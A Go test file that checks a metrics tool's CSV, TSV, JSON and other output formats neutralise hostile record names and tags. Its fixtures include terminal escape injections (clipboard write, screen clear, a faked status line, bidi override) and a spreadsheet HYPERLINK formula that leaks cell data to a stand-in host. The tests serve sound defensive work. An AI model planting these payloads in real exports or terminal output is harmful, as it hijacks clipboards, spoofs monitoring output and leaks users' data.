package format

import (
	"encoding/json"
	"errors"
	"regexp"
	"strings"
	"testing"

	"sm/internal/record"
)

// hostile are records whose names and tags try to act on whatever shows
// them: a terminal, a spreadsheet, a Nagios parser.
var hostile = []record.Record{
	promRec(`evil;host=web1;t=\033]52\073c\073aGk=\007`, 1, 1764045000),
	promRec(`evil;host=web1;t=\033[2J`, 2, 1764045000),
	promRec(`evil;host=web1;t=x\012OK\040-\040all\040fine`, 3, 1764045000),
	promRec(`evil;host=web1;t=a\015b`, 4, 1764045000),
	promRec(`evil;host=web1;t=abc`+"\u202e"+`txt`, 5, 1764045000),
	promRec(`evil;host=web1;t=a\302\205b\302\2332J`, 6, 1764045000),
	promRec(`evil;host=web1;t=\177`, 7, 1764045000),
}

// rawControl matches what no output for a terminal may hold: a C0
// control but a line feed, DEL, a C1 control, a bidirectional control.
var rawControl = regexp.MustCompile("[\x00-\x09\x0b-\x1f\x7f\u0080-\u009f\u202a-\u202e\u2066-\u2069]")

func writeAll(t *testing.T, name string, o Options, recs []record.Record) string {
	t.Helper()
	var sb strings.Builder
	w, err := New(name, &sb, o)
	if err != nil {
		t.Fatal(err)
	}
	for i := range recs {
		if err := w.Write(&recs[i]); err != nil {
			if _, rest := Split(err); rest != nil {
				t.Fatal(err)
			}
		}
	}
	if err := w.Close(); err != nil {
		if _, rest := Split(err); rest != nil {
			t.Fatal(err)
		}
	}
	return sb.String()
}

// TestTerminalInert: every format sm-query may write on a terminal shows
// hostile tags as escapes; json always does.
// (In a pipe, graphite holds a bidi override as it is: records take it
// as text.)
func TestTerminalInert(t *testing.T) {
	for _, name := range []string{"csv", "tsv", "prom", "openmetrics", "influx", "json", "graphite"} {
		t.Run(name, func(t *testing.T) {
			o := Options{Terminal: true, Columns: []string{"host", "t"}}
			out := writeAll(t, name, o, hostile)
			if name == "tsv" {
				out = strings.ReplaceAll(out, "\t", ",")
			}
			if m := rawControl.FindString(out); m != "" {
				t.Errorf("raw %q in\n%s", m, out)
			}
		})
	}
}

// TestJSONParses: every line of the json format is JSON that gives back
// the name and tags as they were.
func TestJSONParses(t *testing.T) {
	out := writeAll(t, "json", Options{}, hostile)
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	if len(lines) != len(hostile) {
		t.Fatalf("%d lines, want %d", len(lines), len(hostile))
	}
	for i, l := range lines {
		var got struct {
			Name string
			Tags map[string]string
		}
		if err := json.Unmarshal([]byte(l), &got); err != nil {
			t.Fatalf("line %d %q: %v", i+1, l, err)
		}
		if got.Name != hostile[i].Name || got.Tags["t"] != hostile[i].Tag("t") {
			t.Errorf("line %d: got %q %q, want %q %q", i+1, got.Name, got.Tags["t"], hostile[i].Name, hostile[i].Tag("t"))
		}
	}
}

// TestCSVNeutralised: a name, a tag key or a tag value that a
// spreadsheet would run as a formula gets a "'" in front; values stay
// numbers.
func TestCSVNeutralised(t *testing.T) {
	recs := []record.Record{
		promRec(`=HYPERLINK("http://x/?"&A1)`+`;-k=+1;host=@web`, -1.5, 1764045000),
		promRec(`'quoted;-k='x;host=-`, 2, 1764045000),
		promRec(`ok;-k=a=b;host=web1`, 3, 1764045000),
	}
	for _, c := range []struct{ name, want string }{
		{"csv", `time,name,'-k,host,value
2025-11-25T04:30:00Z,"'=HYPERLINK(""http://x/?""&A1)",'+1,'@web,-1.5
2025-11-25T04:30:00Z,''quoted,''x,'-,2
2025-11-25T04:30:00Z,ok,a=b,web1,3
`},
		{"tsv", "time\tname\t'-k\thost\tvalue\n" +
			"2025-11-25T04:30:00Z\t'=HYPERLINK(\"http://x/?\"&A1)\t'+1\t'@web\t-1.5\n" +
			"2025-11-25T04:30:00Z\t''quoted\t''x\t'-\t2\n" +
			"2025-11-25T04:30:00Z\tok\ta=b\tweb1\t3\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := writeAll(t, c.name, Options{Columns: []string{"-k", "host"}}, recs); got != c.want {
				t.Errorf("got\n%s\nwant\n%s", got, c.want)
			}
		})
	}
}

func TestCells(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "web1": "web1", "=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@x": "'@x",
		"\tx": "'\tx", "\rx": "'\rx", "'x": "''x", "a=b": "a=b", "x-": "x-",
	} {
		if got := NeutraliseCell(in); got != want {
			t.Errorf("NeutraliseCell(%q) = %q, want %q", in, got, want)
		}
		if got := RestoreCell(NeutraliseCell(in)); got != in {
			t.Errorf("RestoreCell(NeutraliseCell(%q)) = %q", in, got)
		}
	}
}

// TestFoldTags: with FoldTags, the tags without a column of their own
// share one, as KEY=VALUE;KEY=VALUE escaped as in a record.
func TestFoldTags(t *testing.T) {
	recs := []record.Record{
		promRec(`cpu;a=1;host=web1;z=x\073y`, 1, 1764045000),
		promRec(`cpu;host=web2`, 2, 1764045000),
		promRec(`cpu;b=-x\040y`, 3, 1764045000),
	}
	o := Options{Columns: []string{"host"}, FoldTags: true}
	for _, c := range []struct{ name, want string }{
		{"csv", `time,name,host,;tags,value
2025-11-25T04:30:00Z,cpu,web1,a=1;z=x\073y,1
2025-11-25T04:30:00Z,cpu,web2,,2
2025-11-25T04:30:00Z,cpu,,b=-x\040y,3
`},
		{"tsv", "time\tname\thost\t;tags\tvalue\n" +
			"2025-11-25T04:30:00Z\tcpu\tweb1\ta=1;z=x\\073y\t1\n" +
			"2025-11-25T04:30:00Z\tcpu\tweb2\t\t2\n" +
			"2025-11-25T04:30:00Z\tcpu\t\tb=-x\\040y\t3\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := writeAll(t, c.name, o, recs); got != c.want {
				t.Errorf("got\n%s\nwant\n%s", got, c.want)
			}
		})
	}
}

func TestSplit(t *testing.T) {
	skip := &SkipError{Format: "prom", Series: "x", Err: errors.New("why")}
	fail := errors.New("disk full")
	for _, c := range []struct {
		name  string
		err   error
		skips int
		rest  error
	}{
		{"nil", nil, 0, nil},
		{"a failure", fail, 0, fail},
		{"a skip", skip, 1, nil},
		{"skips", errors.Join(skip, skip), 2, nil},
		{"skips and a failure", errors.Join(skip, fail, skip), 2, fail},
	} {
		t.Run(c.name, func(t *testing.T) {
			skips, rest := Split(c.err)
			if len(skips) != c.skips || rest != c.rest {
				t.Errorf("Split(%v) = %d skips, %v; want %d, %v", c.err, len(skips), rest, c.skips, c.rest)
			}
		})
	}
}
